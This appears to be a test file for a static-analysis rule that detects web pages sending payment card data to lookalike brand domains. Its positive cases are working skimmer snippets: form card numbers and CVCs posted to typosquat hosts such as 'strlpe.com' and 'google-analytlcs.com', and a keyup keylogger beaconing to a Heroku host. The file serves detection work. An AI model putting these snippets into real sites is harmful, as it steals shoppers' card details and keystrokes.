// Tests for card-data-to-lookalike-host: card, form or key data reaching a host that imitates
// a well-known brand. Findings are reported on the sink. Sections are separate scripts.

// A typo of Stripe.
var card = { number: document.getElementById('cardnumber').value, cvc: document.getElementById('cvc').value };
// ruleid: card-data-to-lookalike-host
fetch('https://api.strlpe.com/v1/tokens', { method: 'POST', body: new URLSearchParams(card) });

// ---
// An abbreviation of Google Analytics, image beacon with base64 JSON.
var d = JSON.stringify(jQuery('#checkout').serializeArray());
// ruleid: card-data-to-lookalike-host
new Image().src = 'https://www.google-analytlcs.com/collect?v=1&cd=' + btoa(d);

// ---
// Google Tag Manager's name under another suffix, jQuery.ajax POST.
function send(values) {
  // ruleid: card-data-to-lookalike-host
  jQuery.ajax({ url: 'https://googletagmanager.top/gtm/collect', type: 'POST', data: { v: values } });
}
send(document.querySelector('#cc_cvv').value);

// ---
// Key logger to a brand plus a generic word (`stripe-cdn` on a hosting platform).
document.addEventListener('keyup', function (e) {
  // ruleid: card-data-to-lookalike-host
  navigator.sendBeacon('https://stripe-cdn.herokuapp.com/k', e.key);
});

// ---
// The real Stripe API.
var real = document.getElementById('card-number').value;
// ok: card-data-to-lookalike-host
fetch('https://api.stripe.com/v1/payment_methods', { method: 'POST', body: 'type=card&card[number]=' + real });

// ---
// The real Google Analytics, page view only (no card data).
// ok: card-data-to-lookalike-host
new Image().src = 'https://www.google-analytics.com/collect?v=1&t=pageview&dp=' + encodeURIComponent(location.pathname);

// ---
// Card data to the site itself, whose path mentions Stripe.
var num = document.querySelector('[autocomplete="cc-number"]').value;
// ok: card-data-to-lookalike-host
fetch('/stripe/confirm-payment', { method: 'POST', body: JSON.stringify({ number: num }) });
// ---
// ... but not when an IOC rule documents the host: it is known-bad (card-data-to-untrusted-host).
var pan = document.getElementById('cardnumber').value;
// ok: card-data-to-lookalike-host
fetch('https://api.slripe.com/v1/tokens', { method: 'POST', body: pan });
